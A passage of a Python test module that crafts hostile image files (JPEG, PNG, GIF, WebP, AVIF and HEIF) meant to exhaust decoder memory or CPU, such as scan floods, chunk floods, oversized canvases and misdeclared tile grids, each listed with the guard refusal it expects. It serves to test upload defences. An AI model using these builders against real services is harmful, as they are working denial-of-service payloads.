"""Crafted files, byte by byte: the structures the guards stop, grown to any size, probes that sit
exactly at each guard's limit, and the malformed or unsupported uploads broken clients send. The one
source of hostile files for the tests and the hostile benchmark (bench/hostile.py).

- ATTACKS: name -> Attack. One kind of hostile file at a given scale (scans, segments, chunks...),
  each of which was slow or memory-hungry before the structure walk existed.
- PROBES: guard name -> Probe. `build(n)` makes an otherwise ordinary file that counts `n` for that
  guard (to within `step`): build(limit) passes the walk, build(limit + step) is refused.
- REJECTED: name -> (builder, code). Uploads that end `failed` with that code.

Image data comes from Pillow where it can encode it; HEVC tiles come from two tiny files in
tests/fixtures/ (made once with pillow-heif's x265: pi-heif cannot encode).
"""

from __future__ import annotations

import io
import re
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache

from PIL import Image

from chalicelib.imaging.structure import GUARDS, check_structure
from tests import images

MIB = 1024 * 1024
MAX_UPLOAD_BYTES = 25 * MIB


def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **params)
    return buffer.getvalue()


def counted(data: bytes, container: str, metric: str) -> int:
    """What the walk counts for `metric` in `data`, with no guard enforced."""
    return check_structure(data, container, None).metrics.get(metric, 0)


# ---------------------------------------------------------------- JPEG

_NEXT_MARKER = re.compile(rb"\xff[^\x00\xd0-\xd7\xff]")


def segment(marker: int, payload: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(payload) + 2) + payload


def after_soi(jpeg: bytes, inserted: bytes) -> bytes:
    return jpeg[:2] + inserted + jpeg[2:]


@cache
def jpeg_image(width: int = 64, height: int = 64, mode: str = "RGB", progressive: bool = False) -> bytes:
    """A flat-colour JPEG: cheap to encode at any size, a real file to every decoder."""
    colour = 128 if mode == "L" else (120, 60, 200)
    subsampling = {"subsampling": 0} if mode == "RGB" else {}
    return encode(Image.new(mode, (width, height), colour), "JPEG", quality=90, progressive=progressive, **subsampling)


def split_scans(jpeg: bytes) -> tuple[bytes, list[bytes], bytes]:
    """(everything before the first scan, each scan with the tables before it, EOI and after)."""
    pos = 2
    while jpeg[pos + 1] != 0xDA:
        pos += 2 + struct.unpack_from(">H", jpeg, pos + 2)[0]
    head, scans, start = jpeg[:pos], [], pos
    while True:
        found = _NEXT_MARKER.search(jpeg, pos + 2 + struct.unpack_from(">H", jpeg, pos + 2)[0])
        assert found is not None, "no EOI"
        pos = found.start()
        while jpeg[pos + 1] not in (0xDA, 0xD9):
            pos += 2 + struct.unpack_from(">H", jpeg, pos + 2)[0]
        scans.append(jpeg[start:pos])
        if jpeg[pos + 1] == 0xD9:
            return head, scans, jpeg[pos:]
        start = pos


def with_scans(jpeg: bytes, total: int, repeat: int = -1) -> bytes:
    """`jpeg` with scan number `repeat` (default: the last) repeated until there are `total` scans."""
    head, scans, tail = split_scans(jpeg)
    index = repeat % len(scans)
    extra = [scans[index]] * max(0, total - len(scans))
    return head + b"".join(scans[: index + 1] + extra + scans[index + 1 :]) + tail


def with_frame_size(jpeg: bytes, width: int, height: int) -> bytes:
    """Rewrite the frame header's size (the scans then cover that many blocks)."""
    data = bytearray(jpeg)
    pos = 2
    while data[pos + 1] not in (0xC0, 0xC1, 0xC2):
        pos += 2 + struct.unpack_from(">H", data, pos + 2)[0]
    struct.pack_into(">HH", data, pos + 5, height, width)
    return bytes(data)


def tiff(entries: list[tuple[int, int, int, int]], blob: bytes = b"") -> bytes:
    """A little-endian TIFF header and one directory of (tag, type, count, value or offset) entries,
    then `blob`, which starts at offset tiff_blob_offset(len(entries))."""
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\x00" + struct.pack("<I", 8) + body + b"\x00\x00\x00\x00" + blob


def tiff_blob_offset(entries: int) -> int:
    return 8 + 2 + 12 * entries + 4


def overlapping_tiff(total: int, entries: int) -> bytes:
    """`entries` directory entries all pointing at one shared blob, `total` bytes in all."""
    offset = tiff_blob_offset(entries)
    blob = total - offset
    return tiff([(0x1000 + i, 7, blob, offset) for i in range(entries)], b"\x00" * blob)


def exif_segment(tiff_data: bytes) -> bytes:
    return segment(0xE1, b"Exif\x00\x00" + tiff_data)


def app_segments(total: int, marker: int = 0xEF, prefix: bytes = b"") -> bytes:
    """APPn segments of at most 64 KiB carrying `total` payload bytes in all."""
    room, parts = 65533 - len(prefix), []
    while total > 0:
        size = min(room, total - len(prefix)) if total > len(prefix) else 0
        parts.append(segment(marker, prefix + b"\x00" * size))
        total -= len(prefix) + size
    return b"".join(parts)


def photoshop_segments(resources: int) -> bytes:
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", 0)
    return b"".join(
        segment(0xED, b"Photoshop 3.0\x00" + resource * min(5000, resources - start))
        for start in range(0, resources, 5000)
    )


def icc_segments(total: int) -> bytes:
    room = 65533 - 14
    chunks = [total - start if total - start < room else room for start in range(0, total, room)]
    return b"".join(
        segment(0xE2, b"ICC_PROFILE\x00" + bytes((i + 1, len(chunks))) + b"\x00" * size)
        for i, size in enumerate(chunks)
    )


# ---------------------------------------------------------------- ICC profiles


def _s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def _icc_tag_types() -> dict[str, bytes]:
    text = "crafted".encode("utf-16-be")
    description = (
        b"mluc\x00\x00\x00\x00" + struct.pack(">II", 1, 12) + b"enUS" + struct.pack(">II", len(text), 28) + text
    )
    white = b"XYZ \x00\x00\x00\x00" + _s15(0.9642) + _s15(1.0) + _s15(0.8249)
    identity = b"".join(_s15(v) for v in (1, 0, 0, 0, 1, 0, 0, 0, 1))
    lut = b"mft2\x00\x00\x00\x00" + bytes((3, 3, 2, 0)) + identity + struct.pack(">HH", 2, 2)
    lut += struct.pack(">HH", 0, 65535) * 3 + b"".join(
        struct.pack(">HHH", 9000 * i, 7000 * i, 5000 * i) for i in range(8)
    )
    lut += struct.pack(">HH", 0, 65535) * 3
    return {"desc": description, "wtpt": white, "A2B0": lut}


def icc_profile(elements: int = 0) -> bytes:
    """An RGB display profile; with `elements`, its D2B0 pipeline (which LittleCMS prefers to A2B0)
    lists one stored 2x2x2 CLUT element that many times."""
    tags = dict(_icc_tag_types())
    if elements:
        clut = b"clut\x00\x00\x00\x00" + struct.pack(">HH", 3, 3) + bytes([2, 2, 2] + [0] * 13)
        clut += b"".join(struct.pack(">f", (i % 7) / 7) for i in range(24))
        positions = struct.pack(">II", 16 + 8 * elements, len(clut)) * elements
        tags["D2B0"] = b"mpet\x00\x00\x00\x00" + struct.pack(">HHI", 3, 3, elements) + positions + clut
    table, body, offset = struct.pack(">I", len(tags)), b"", 128 + 4 + 12 * len(tags)
    for name, data in tags.items():
        table += name.encode() + struct.pack(">II", offset + len(body), len(data))
        body += data + b"\x00" * (-len(data) % 4)
    size = 128 + len(table) + len(body)
    header = struct.pack(">I", size) + b"lcms" + bytes((4, 0x30, 0, 0)) + b"mntrRGB XYZ " + b"\x00" * 12 + b"acsp"
    header += b"APPL" + b"\x00" * 24 + _s15(0.9642) + _s15(1.0) + _s15(0.8249) + b"lcms" + b"\x00" * 44
    return header + table + body


def with_icc(jpeg: bytes, profile: bytes) -> bytes:
    """`jpeg` carrying `profile` in APP2 chunks, as Pillow writes them."""
    room = 65533 - 14
    chunks = [profile[i : i + room] for i in range(0, len(profile), room)]
    return after_soi(
        jpeg,
        b"".join(segment(0xE2, b"ICC_PROFILE\x00" + bytes((i + 1, len(chunks))) + c) for i, c in enumerate(chunks)),
    )


# ---------------------------------------------------------------- PNG

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_image(width: int = 64, height: int = 64, before: bytes = b"", after: bytes = b"", idat: bytes = b"") -> bytes:
    """An RGB PNG (black) with `before` and `after` its image data; `idat` replaces the IDAT chunk."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(b"\x00" * (width * 3 + 1) * height))
    return PNG_SIGNATURE + header + before + (idat or pixels) + after + chunk(b"IEND")


def split_idat(width: int, height: int, chunks: int) -> bytes:
    """The image data of png_image(width, height) cut into `chunks` IDAT chunks (all but one empty)."""
    pixels = zlib.compress(b"\x00" * (width * 3 + 1) * height)
    return chunk(b"IDAT", pixels) + chunk(b"IDAT") * (chunks - 1)


def apng(frames: int, size: int = 64) -> bytes:
    """An APNG of `frames` frames: the full-size IDAT one, then 1x1 frames."""

    def control(sequence: int, width: int, height: int) -> bytes:
        return chunk(b"fcTL", struct.pack(">IIIIIHHBB", sequence, width, height, 0, 0, 1, 10, 0, 0))

    one_pixel = zlib.compress(b"\x00\x00\x00\x00")
    later = b"".join(
        control(2 * i - 1, 1, 1) + chunk(b"fdAT", struct.pack(">I", 2 * i) + one_pixel) for i in range(1, frames)
    )
    return png_image(size, size, chunk(b"acTL", struct.pack(">II", frames, 0)) + control(0, size, size), later)


# ---------------------------------------------------------------- GIF


@cache
def gif_image(width: int = 64, height: int = 64) -> bytes:
    return encode(Image.new("P", (width, height), 1), "GIF")


def gif_parts(gif: bytes) -> tuple[bytes, bytes]:
    """(header, screen and colour table; the rest: blocks and trailer)."""
    flags = gif[10]
    split = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)
    return gif[:split], gif[split:]


def with_gif_blocks(gif: bytes, blocks: bytes) -> bytes:
    head, rest = gif_parts(gif)
    return head + blocks + rest


def with_screen(gif: bytes, width: int, height: int) -> bytes:
    return gif[:6] + struct.pack("<HH", width, height) + gif[10:]


def sub_blocks(payload: bytes, size: int = 255) -> bytes:
    if size == 1:  # interleave length bytes and payload bytes (fast for millions of sub-blocks)
        interleaved = bytearray(2 * len(payload))
        interleaved[0::2], interleaved[1::2] = b"\x01" * len(payload), payload
        return bytes(interleaved) + b"\x00"
    chained = b"".join(
        bytes((len(payload[i : i + size]),)) + payload[i : i + size] for i in range(0, len(payload), size)
    )
    return chained + b"\x00"


def extension(label: int, payload: bytes, size: int = 255) -> bytes:
    return bytes((0x21, label)) + sub_blocks(payload, size)


def comment(payload: bytes, size: int = 255) -> bytes:
    return extension(0xFE, payload, size)


def gif_frames(frames: int, size: int = 64) -> bytes:
    """A GIF whose screen holds `frames` 1x1 frames after its first, full one."""
    head, rest = gif_parts(gif_image(size, size))
    tiny = gif_parts(gif_image(1, 1))[1][:-1]  # its image block, without the trailer
    return head + rest[:-1] + tiny * (frames - 1) + b"\x3b"


# ---------------------------------------------------------------- WebP


def riff_chunk(kind: bytes, payload: bytes) -> bytes:
    return kind + struct.pack("<I", len(payload)) + payload + (b"\x00" if len(payload) % 2 else b"")


def riff(chunks: list[bytes]) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _u24(value: int) -> bytes:
    return struct.pack("<I", value)[:3]


def vp8x(width: int, height: int, flags: int = 0) -> bytes:
    return riff_chunk(b"VP8X", bytes((flags, 0, 0, 0)) + _u24(width - 1) + _u24(height - 1))


@cache
def webp_bitstream(width: int = 1, height: int = 1) -> bytes:
    """The VP8L chunk of a lossless WebP of that size."""
    data = encode(Image.new("RGBA", (width, height), (30, 90, 200, 255)), "WEBP", lossless=True)
    return data[12:]


def animation_frame(left: int, top: int, width: int, height: int, bitstream: bytes) -> bytes:
    header = _u24(left // 2) + _u24(top // 2) + _u24(width - 1) + _u24(height - 1) + _u24(100) + b"\x00"
    return riff_chunk(b"ANMF", header + bitstream)


def animated_webp(canvas: tuple[int, int], frames: list[bytes], extra: list[bytes] | None = None) -> bytes:
    animation = riff_chunk(b"ANIM", b"\x00" * 6)
    return riff([vp8x(*canvas, flags=0x02 | 0x10), animation, *frames, *(extra or [])])


# ---------------------------------------------------------------- AVIF and HEIF (ISO-BMFF)


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def full_box(kind: bytes, version: int, flags: int, payload: bytes) -> bytes:
    return box(kind, bytes((version,)) + flags.to_bytes(3, "big") + payload)


def ispe(width: int, height: int) -> bytes:
    return full_box(b"ispe", 0, 0, struct.pack(">II", width, height))


def find_box(data: bytes, path: list[bytes]) -> bytes:
    """The first box at `path` (e.g. [meta, iprp, ipco, av1C]), header included."""
    pos, end = 0, len(data)
    for depth, kind in enumerate(path):
        while True:
            size, found = struct.unpack_from(">I4s", data, pos)
            if found == kind:
                break
            pos += size
        if depth == len(path) - 1:
            return data[pos : pos + size]
        pos, end = pos + {b"meta": 12}.get(kind, 8), pos + size
    raise AssertionError(end)


@dataclass
class Item:
    kind: bytes
    data: bytes = b""
    properties: list[bytes] = field(default_factory=list)  # whole property boxes; the first is essential
    hidden: bool = False


def iso_file(
    brand: bytes, items: list[Item], references: list[tuple[bytes, int, list[int]]] | None = None, extra: bytes = b""
) -> bytes:
    """An image file of `items` (ids from 1; the first is primary), each with its data in mdat
    (identical data stored once) and its properties deduplicated in ipco."""
    properties: list[bytes] = []
    for item in items:
        properties.extend(p for p in item.properties if p not in properties)
    blobs: dict[bytes, int] = {}
    for item in items:
        blobs.setdefault(item.data, sum(len(b) for b in blobs))

    def meta(mdat_start: int) -> bytes:
        locations = b"".join(
            struct.pack(">HHHHII", i, 0, 0, 1, mdat_start + 8 + blobs[item.data], len(item.data))
            for i, item in enumerate(items, 1)
        )
        infos = b"".join(
            full_box(b"infe", 2, int(item.hidden), struct.pack(">HH", i, 0) + item.kind + b"\x00" + _content_type(item))
            for i, item in enumerate(items, 1)
        )
        associations = b"".join(
            struct.pack(">HB", i, len(item.properties))
            + bytes((0x80 if n == 0 else 0) | (properties.index(p) + 1) for n, p in enumerate(item.properties))
            for i, item in enumerate(items, 1)
        )
        refs = b"".join(
            box(kind, struct.pack(">HH", source, len(to)) + b"".join(struct.pack(">H", t) for t in to))
            for kind, source, to in references or []
        )
        return full_box(
            b"meta",
            0,
            0,
            full_box(b"hdlr", 0, 0, b"\x00" * 4 + b"pict" + b"\x00" * 13)
            + full_box(b"pitm", 0, 0, struct.pack(">H", 1))
            + full_box(b"iloc", 1, 0, b"\x44\x00" + struct.pack(">H", len(items)) + locations)
            + full_box(b"iinf", 0, 0, struct.pack(">H", len(items)) + infos)
            + (full_box(b"iref", 0, 0, refs) if refs else b"")
            + box(
                b"iprp",
                box(b"ipco", b"".join(properties))
                + full_box(b"ipma", 0, 0, struct.pack(">I", len(items)) + associations),
            ),
        )

    head = box(b"ftyp", brand + b"\x00\x00\x00\x00" + brand + b"mif1miaf")
    start = len(head) + len(meta(0)) + len(extra)
    return head + meta(start) + extra + box(b"mdat", b"".join(blobs))


def _content_type(item: Item) -> bytes:
    return b"application/rdf+xml\x00" if item.kind == b"mime" else b""


@cache
def coded_image(kind: bytes, width: int) -> tuple[bytes, bytes]:
    """(codec configuration box, item data) of a flat square image: AV1 from Pillow, HEVC from the
    fixtures (flat_64.heic, flat_4096.heic)."""
    if kind == b"av01":
        data = encode(Image.new("RGB", (width, width), (40, 160, 90)), "AVIF", quality=50, speed=10)
        return find_box(data, [b"meta", b"iprp", b"ipco", b"av1C"]), find_box(data, [b"mdat"])[8:]
    data = images.fixture(f"flat_{width}.heic")
    return find_box(data, [b"meta", b"iprp", b"ipco", b"hvcC"]), find_box(data, [b"mdat"])[8:]


def _children(data: bytes, pos: int, end: int) -> dict[bytes, list[tuple[int, int]]]:
    """Payload spans of the boxes in data[pos:end], by type."""
    found: dict[bytes, list[tuple[int, int]]] = {}
    while pos + 8 <= end:
        size, kind = struct.unpack_from(">I4s", data, pos)
        found.setdefault(kind, []).append((pos + 8, pos + size))
        pos += size
    return found


@cache
def coded_items(name: str) -> tuple[tuple[bytes, bytes], ...]:
    """(codec configuration box, data) of each coded item of a fixture written by pillow-heif, in item
    order: the colour image, then its alpha plane when it has one."""
    data = images.fixture(name)
    meta = _children(data, 0, len(data))[b"meta"][0]
    boxes = _children(data, meta[0] + 4, meta[1])
    iprp = _children(data, *boxes[b"iprp"][0])
    ipco = _children(data, *iprp[b"ipco"][0])
    configurations = [data[start - 8 : stop] for start, stop in ipco.get(b"hvcC", []) + ipco.get(b"av1C", [])]
    start = boxes[b"iloc"][0][0]
    count, pos, extents = struct.unpack_from(">H", data, start + 6)[0], start + 8, []
    for _ in range(count):  # version 0, 4-byte base, offset and length, one extent (pillow-heif's layout)
        base, _extents, offset, length = struct.unpack_from(">IHII", data, pos + 4)
        extents.append(data[base + offset : base + offset + length])
        pos += 18
    return tuple(zip(configurations, extents))


def clean_aperture(width: int, height: int) -> bytes:
    """A `clap` box presenting the centred width x height of the image it is on."""
    return box(b"clap", struct.pack(">8I", width, 1, height, 1, 0, 1, 0, 1))


def alpha_property() -> bytes:
    return full_box(b"auxC", 0, 0, b"urn:mpeg:hevc:2015:auxid:1\x00")


@dataclass(frozen=True)
class Coded:
    """A picture of rows x columns flat tiles of `tile` px from a pillow-heif fixture (one coded item
    when 1x1, else a grid of them): its colour plane (4:4:4) or its alpha plane (4:0:0)."""

    tile: int
    rows: int = 1
    columns: int = 1
    alpha: bool = False

    @property
    def size(self) -> tuple[int, int]:
        return self.columns * self.tile, self.rows * self.tile

    def items(self, first_id: int, properties: list[bytes]) -> tuple[list[Item], list[tuple[bytes, int, list[int]]]]:
        """Its items, the first being the picture (with `properties` added), ids from `first_id`, and
        the grid's references."""
        config, data = coded_items(f"flat_{self.tile}_444_alpha.heic")[int(self.alpha)]
        if self.rows * self.columns == 1:
            return [Item(b"hvc1", data, [config, ispe(*self.size), *properties])], []
        descriptor = struct.pack(">BBBBHH", 0, 0, self.rows - 1, self.columns - 1, *self.size)
        count = self.rows * self.columns
        tiles = [Item(b"hvc1", data, [config, ispe(self.tile, self.tile)], hidden=True) for _ in range(count)]
        grid_item = Item(b"grid", descriptor, [ispe(*self.size), *properties])
        return [grid_item, *tiles], [(b"dimg", first_id, list(range(first_id + 1, first_id + 1 + count)))]


def heif_image(colour: Coded, alpha: Coded | None = None, crop: tuple[int, int] | None = None) -> bytes:
    """A HEIC of the `colour` picture, with `alpha` as its alpha plane, optionally cropped by `clap`."""
    items, references = colour.items(1, [clean_aperture(*crop)] if crop else [])
    if alpha is not None:
        alpha_items, alpha_references = alpha.items(len(items) + 1, [alpha_property()])
        alpha_items[0].hidden = True
        references += [(b"auxl", len(items) + 1, [1]), *alpha_references]
        items += alpha_items
    return iso_file(b"heic", items, references)


def still(
    kind: bytes = b"av01", references: list[tuple[bytes, int, list[int]]] | None = None, extra: bytes = b""
) -> bytes:
    """A 64 px image with one coded item, `references` and `extra` boxes after its meta box."""
    config, data = coded_image(kind, 64)
    brand = b"avif" if kind == b"av01" else b"heic"
    return iso_file(brand, [Item(kind, data, [config, ispe(64, 64)])], references, extra)


def grid(
    rows: int,
    columns: int,
    kind: bytes = b"av01",
    tile: int = 64,
    declared: int | None = None,
    output: tuple[int, int] | None = None,
    distinct: int | None = None,
) -> bytes:
    """A grid image of rows x columns tiles (each at most 256) that all share one coded tile of
    `tile` px, each declaring itself `declared` px (the truth by default). With `distinct`, only that
    many tile items exist and the grid refers to them in turn, as an encoder that stores identical
    tiles once would."""
    config, data = coded_image(kind, tile)
    side = declared or tile
    width, height = output or (columns * side, rows * side)
    descriptor = struct.pack(">BBBBHH", 0, 0, rows - 1, columns - 1, width, height)
    count = rows * columns
    items = distinct or count
    tiles = [Item(kind, data, [config, ispe(side, side)], hidden=True) for _ in range(items)]
    brand = b"avif" if kind == b"av01" else b"heic"
    references = [(b"dimg", 1, [2 + i % items for i in range(count)])]
    return iso_file(brand, [Item(b"grid", descriptor, [ispe(width, height)]), *tiles], references)


@cache
def avif_sequence(coded: int, declared: int | None = None) -> bytes:
    """A two-frame AVIF sequence coded at `coded` px whose track's sample entry (and tkhd) declare
    `declared` px; its primary item stays honest."""
    frames = [Image.new("RGB", (coded, coded), (10 * i, 200, 30)) for i in range(2)]
    data = bytearray(encode(frames[0], "AVIF", save_all=True, append_images=frames[1:], quality=30, speed=10))
    if declared is not None:
        entry = data.index(b"av01", data.index(b"stsd")) + 4  # the sample entry's payload
        struct.pack_into(">HH", data, entry + 24, declared, declared)
        header = data.index(b"tkhd") + 4
        width = header + 4 + (32 if data[header] == 1 else 20) + 16 + 36
        struct.pack_into(">II", data, width, declared << 16, declared << 16)
    return bytes(data)


def shared_metadata(images: int, exif_bytes: int = 0, icc_bytes: int = 0) -> bytes:
    """A HEIF of `images` 64 px images that all refer to one Exif item and one ICC profile."""
    config, data = coded_image(b"hvc1", 64)
    colour = [box(b"colr", b"prof" + b"\x00" * icc_bytes)] if icc_bytes else []
    items = [Item(b"hvc1", data, [config, ispe(64, 64), *colour]) for _ in range(images)]
    if exif_bytes:
        exif = Item(b"Exif", b"\x00\x00\x00\x00" + tiff([(0x0112, 3, 1, 1)]) + b"\x00" * exif_bytes)
        return iso_file(b"heic", [*items, exif], [(b"cdsc", images + 1, list(range(1, images + 1)))])
    return iso_file(b"heic", items)


def nested_boxes(depth: int) -> bytes:
    """`depth` empty container boxes, each inside the one before."""
    return b"".join(struct.pack(">I4s", 8 * (depth - level), b"dinf") for level in range(depth))


# ---------------------------------------------------------------- the tables


@dataclass(frozen=True)
class Attack:
    """A hostile file at `scale` units of its structure (scans, segments, chunks, tiles...)."""

    container: str
    build: Callable[[int], bytes]
    unit: str
    scales: tuple[int, ...]
    code: str  # what the guards answer at the largest scale


def _overlapping_exif(segments: int) -> bytes:
    """One EXIF directory spread over `segments` APP1 segments (Pillow joins them), every entry
    pointing at the same blob."""
    data = overlapping_tiff(65000 * segments, 2700 * segments)
    return after_soi(jpeg_image(), b"".join(exif_segment(data[i : i + 65000]) for i in range(0, len(data), 65000)))


def _far_away_frame(distance: int) -> bytes:
    """A 1x1 screen whose one 1x1 frame sits `distance` px right of and below it: Pillow's canvas
    grows to reach it."""
    data = bytearray(gif_image(1, 1))
    descriptor = data.index(b"\x2c", 13)
    struct.pack_into("<HH", data, descriptor + 1, 3 * distance, distance)
    return bytes(data)


def _grey_scans(scans: int) -> bytes:
    return with_scans(jpeg_image(4000, 3000, "L", progressive=True), scans)


def _colour_dc_scans(scans: int) -> bytes:
    return with_scans(jpeg_image(8660, 5773, "RGB", progressive=True), scans, repeat=0)


ATTACKS: dict[str, Attack] = {
    "jpeg-repeated-scans": Attack("JPEG", _grey_scans, "scans", (200, 1000, 5000, 50_000, 500_000), "too_many_scans"),
    "jpeg-50mp-dc-scans": Attack("JPEG", _colour_dc_scans, "scans", (20, 45, 80), "too_many_scans"),
    "jpeg-small-exif-segments": Attack(
        "JPEG",
        lambda n: after_soi(jpeg_image(), exif_segment(b"A" * 94) * n),
        "segments",
        (1000, 10_000, 20_000, 240_000),
        "too_much_metadata",
    ),
    "jpeg-empty-app1": Attack(
        "JPEG",
        lambda n: after_soi(jpeg_image(), b"\xff\xe1\x00\x02" * n),
        "segments",
        (10_000, 1_000_000, 6_000_000),
        "too_much_metadata",
    ),
    "jpeg-fill-bytes": Attack(
        "JPEG", lambda n: after_soi(jpeg_image(), b"\xff" * n), "bytes", (100_000, 5_000_000, 25_000_000), "corrupt"
    ),
    "jpeg-quantization-tables": Attack(
        "JPEG",
        lambda n: after_soi(jpeg_image(), segment(0xDB, (b"\x00" + bytes(range(1, 65))) * 1000) * (n // 1000)),
        "tables",
        (10_000, 100_000, 380_000),
        "too_many_chunks",
    ),
    "jpeg-long-frame-headers": Attack(
        "JPEG",
        lambda n: after_soi(jpeg_image(), segment(0xC0, b"\x08\x00\x40\x00\x40\x03" + b"\x01\x11\x00" * 21000) * n),
        "segments",
        (76, 380),
        "corrupt",
    ),
    "jpeg-photoshop-resources": Attack(
        "JPEG",
        lambda n: after_soi(jpeg_image(), photoshop_segments(n)),
        "resources",
        (540_000, 2_000_000),
        "too_much_metadata",
    ),
    "jpeg-exif-overlapping-values": Attack("JPEG", _overlapping_exif, "segments", (1, 4), "too_much_metadata"),
    "jpeg-mpf-overlapping-values": Attack(
        "JPEG",
        lambda n: after_soi(jpeg_image(), segment(0xE2, b"MPF\x00" + overlapping_tiff(65000, 2700))),
        "segments",
        (1,),
        "too_much_metadata",
    ),
    "icc-repeated-pipeline-elements": Attack(
        "JPEG",
        lambda n: with_icc(jpeg_image(), icc_profile(elements=n)),
        "elements",
        (200, 1000, 8000, 1_000_000),
        "too_much_metadata",
    ),
    "png-empty-ancillary-chunks": Attack(
        "PNG", lambda n: png_image(before=chunk(b"abCd") * n), "chunks", (10_000, 400_000, 2_000_000), "too_many_chunks"
    ),
    "png-empty-idat-chunks": Attack(
        "PNG",
        lambda n: png_image(idat=split_idat(64, 64, n)),
        "chunks",
        (10_000, 400_000, 2_000_000),
        "too_many_chunks",
    ),
    "png-repeated-iccp": Attack(
        "PNG",
        lambda n: png_image(before=chunk(b"iCCP", b"p\x00\x00" + zlib.compress(b"\x00" * MIB, 9)) * n),
        "chunks",
        (100, 5000, 24_000),
        "too_much_metadata",
    ),
    "png-exif-overlapping-values": Attack(
        "PNG",
        lambda n: png_image(before=chunk(b"eXIf", overlapping_tiff(n, 10_000))),
        "bytes",
        (1_000_000, 20_000_000),
        "too_much_metadata",
    ),
    "apng-many-frames": Attack("PNG", apng, "frames", (1000, 100_000), "too_many_frames"),
    "gif-long-comment": Attack(
        "GIF",
        lambda n: with_gif_blocks(gif_image(), comment(b"A" * n)),
        "bytes",
        (1_000_000, 3_000_000, 24_000_000),
        "too_much_metadata",
    ),
    "gif-one-byte-sub-blocks": Attack(
        "GIF",
        lambda n: with_gif_blocks(gif_image(), extension(0xFF, b"A" * n, 1)),
        "sub-blocks",
        (100_000, 2_500_000, 12_000_000),
        "too_many_chunks",
    ),
    "gif-many-comments": Attack(
        "GIF",
        lambda n: with_gif_blocks(gif_image(), comment(b"A") * n),
        "comments",
        (10_000, 1_000_000, 4_800_000),
        "too_much_metadata",
    ),
    "gif-huge-screen": Attack(
        "GIF", lambda n: with_screen(gif_image(1, 1), 12_000, n), "rows", (4166,), "canvas_too_large"
    ),
    "gif-far-away-frame": Attack("GIF", _far_away_frame, "px to the frame", (3999,), "canvas_too_large"),
    "gif-many-tiny-frames": Attack("GIF", gif_frames, "frames", (10_000, 1_000_000), "too_many_frames"),
    "webp-huge-canvas": Attack(
        "WEBP",
        lambda n: animated_webp((12_000, n), [animation_frame(0, 0, 1, 1, webp_bitstream())]),
        "rows",
        (4166,),
        "canvas_too_large",
    ),
    "webp-many-frames": Attack(
        "WEBP",
        lambda n: animated_webp((64, 64), [animation_frame(0, 0, 1, 1, webp_bitstream())] * n),
        "frames",
        (10_000, 400_000),
        "too_many_frames",
    ),
    "webp-many-chunks": Attack(
        "WEBP",
        lambda n: riff([vp8x(1, 1), *[riff_chunk(b"ABCD", b"")] * n, webp_bitstream()]),
        "chunks",
        (10_000, 3_000_000),
        "too_many_chunks",
    ),
    "avif-grid-many-tiles": Attack("AVIF", lambda n: grid(n, n), "rows of tiles", (20, 110), "too_many_chunks"),
    "avif-grid-one-tile-repeated": Attack(
        "AVIF", lambda n: grid(n, n, distinct=1), "rows of tiles", (20, 32, 33, 90), "too_many_tiles"
    ),
    "avif-tiles-larger-than-declared": Attack(
        "AVIF", lambda n: grid(n, n, tile=4096, declared=64), "rows of tiles", (4, 16), "corrupt"
    ),
    "heif-tiles-larger-than-declared": Attack(
        "HEIF", lambda n: grid(n, n, b"hvc1", tile=4096, declared=64), "rows of tiles", (4, 16), "corrupt"
    ),
    "avif-sequence-larger-than-declared": Attack(
        "AVIF", lambda n: avif_sequence(n, declared=64), "px coded", (1024, 2048), "corrupt"
    ),
    "heif-exif-shared-by-images": Attack(
        "HEIF", lambda n: shared_metadata(n, exif_bytes=5_000_000), "images", (2, 900), "too_much_metadata"
    ),
    "heif-icc-shared-by-images": Attack(
        "HEIF", lambda n: shared_metadata(n, icc_bytes=4_000_000), "images", (2, 900), "too_much_metadata"
    ),
    "avif-empty-item-locations": Attack(
        "AVIF",
        lambda n: still(
            extra=full_box(
                b"iloc",
                2,
                0,
                b"\x44\x00" + struct.pack(">I", n) + b"".join(struct.pack(">IHHH", 100 + i, 0, 0, 0) for i in range(n)),
            )
        ),
        "entries",
        (1000, 2_000_000),
        "too_many_chunks",
    ),
    "avif-deep-boxes": Attack(
        "AVIF", lambda n: still(extra=nested_boxes(n)), "levels", (100, 100_000), "nesting_too_deep"
    ),
    # Issue #23: far more decoded than shown.
    "heif-clap-over-tiles-with-alpha": Attack(
        "HEIF",
        lambda n: heif_image(Coded(4096, n, n + 1), Coded(4096, n, n + 1, alpha=True), crop=(64, 64)),
        "rows of 4096 px 4:4:4 tiles",
        (1, 5),
        "too_many_pixels",
    ),
    "heif-clap-over-tiles": Attack(
        "HEIF",
        lambda n: heif_image(Coded(4096, n, n + 1), crop=(64, 64)),
        "rows of 4096 px tiles",
        (5,),
        "too_many_pixels",
    ),
    "heif-clap-over-one-picture": Attack(
        "HEIF", lambda n: heif_image(Coded(n), crop=(64, 64)), "px coded", (4096,), "too_many_pixels"
    ),
    "heif-alpha-larger-than-image": Attack(
        "HEIF",
        lambda n: heif_image(Coded(64), Coded(4096, n, n + 1, alpha=True)),
        "rows of 4096 px alpha tiles",
        (1, 5),
        "too_many_pixels",
    ),
}


@dataclass(frozen=True)
class Probe:
    """`build(n)`: an ordinary file but for one guard's count, which is `n` to within `step`."""

    container: str
    build: Callable[[int], bytes]
    step: int = 1


def _jpeg_extra(metric: str, extra: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """n counted for `metric`: the base JPEG's own count, plus `extra(the rest)` after SOI."""
    base = jpeg_image()

    def build(n: int) -> bytes:
        return after_soi(base, extra(n - counted(base, "JPEG", metric)))

    return build


